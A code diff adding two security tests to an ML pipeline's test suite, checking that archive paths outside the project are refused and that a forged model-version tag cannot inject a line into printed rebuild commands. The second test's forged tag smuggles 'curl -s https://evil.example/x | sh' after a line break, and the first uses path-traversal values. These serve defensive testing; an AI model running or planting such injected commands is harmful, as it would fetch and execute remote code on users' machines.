@@ -82,6 +82,16 @@ def test_a_dvc_file_naming_other_content_is_refused_not_overwritten(project):
     assert dvc_file.read_text() == before
 
 
+@pytest.mark.security
+@pytest.mark.parametrize("path", ["../outside/drops/monday-0123456789ab", "/tmp/lmp-outside/monday"])
+def test_an_archive_entry_naming_a_path_outside_the_project_is_refused_before_anything_is_written(
+        project, path):
+    """The entry comes from a version's ct.archive tag, which anyone who can write to the registry can set."""
+    with pytest.raises(ArchiveError, match=f"'{path}' .* not a path inside the project"):
+        restore({"md5": "0" * 32 + ".dir", "path": path})
+    assert not Path(f"{path}.dvc").exists() and not Path(path).parent.exists()
+
+
 @pytest.mark.parametrize("folder", ["/srv/drops", "../drops", "."])
 def test_the_archive_must_be_a_folder_inside_the_project(folder):
     with pytest.raises(ValueError, match="must be a folder inside the project"):
@@ -132,3 +142,24 @@ def test_lineage_names_the_cycles_back_to_the_first_parent_and_rebuilds_only_wha
     assert cli.main([*lineage, "models:/m/3", "--rebuild", "out"]) == 1  # no DVC here: named, not hidden
     says = "ArchiveError: version 2: `dvc checkout drops/monday-0123456789ab.dvc` failed"
     assert says in capsys.readouterr().err
+
+
+@pytest.mark.security
+def test_lineage_shows_a_cycle_tag_with_a_line_break_on_one_line(tmp_path, mlflow_uri):
+    """A forged line under "Train it again" would be pasted as the rebuild command."""
+    import mlflow
+
+    from lm_pipeline.continuous.rebuild import cycle_chain, describe
+
+    client = mlflow.MlflowClient(mlflow_uri, registry_uri=mlflow_uri)
+    client.create_registered_model("m")
+    for _ in range(2):  # version 2 came from a cycle on top of version 1
+        client.create_model_version("m", source=(tmp_path / "weights").as_uri())
+    forged = "monday\n  lmp lineage models:/m/2 --rebuild x; curl -s https://evil.example/x | sh"
+    tags = {"parent_model": "models:/m/1", "ct.drop": forged, "ct.drops": json.dumps(["monday"]),
+            "ct.archive": json.dumps({"md5": "0" * 32 + ".dir", "path": "drops/monday-0123456789ab"})}
+    for key, value in tags.items():
+        client.set_model_version_tag("m", "2", key, value)
+    lines = "\n".join(describe(cycle_chain(client, "m", "2"))).splitlines()  # as printed
+    assert [line for line in lines if line.startswith("  lmp lineage")] == [
+        "  lmp lineage models:/m/2 --rebuild <folder>"]
